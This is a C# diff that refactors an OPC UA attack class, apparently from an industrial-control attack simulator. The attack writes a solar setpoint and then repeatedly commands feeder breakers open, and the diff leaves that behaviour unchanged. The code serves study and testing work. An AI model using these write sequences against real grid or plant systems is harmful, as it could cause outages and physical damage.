@@ -37,9 +37,12 @@ public sealed class OpcUaFirstWrite : OpcUaAttack
     protected override void Begin(Site site, Strength strength)
     {
         ArgumentNullException.ThrowIfNull(site);
-        Repeat(site, Writes.Count(strength), Interval.Seconds(strength), number => WithDisplay(site, link => link.Ask(number == 0
-            ? link.Client.Write(OpcUaAddressSpace.Of(site.Solar, "Setpoint"), OpcUaVariant.Of(500f))
-            : link.Client.Write(
-                OpcUaAddressSpace.Of(site.Feeders[(number + 1) % site.Feeders.Count], "BreakerCommand"), OpcUaVariant.Of(false)))));
+        Repeat(site, Writes.Count(strength), Interval.Seconds(strength), number => WithDisplay(site, link =>
+        {
+            var feeder = site.Feeders[(number + 1) % site.Feeders.Count];
+            link.Ask(number == 0
+                ? link.Client.Write(OpcUaAddressSpace.Of(site.Solar, "Setpoint"), OpcUaVariant.Of(500f))
+                : link.Client.Write(OpcUaAddressSpace.Of(feeder, "BreakerCommand"), OpcUaVariant.Of(false)));
+        }));
     }
 }
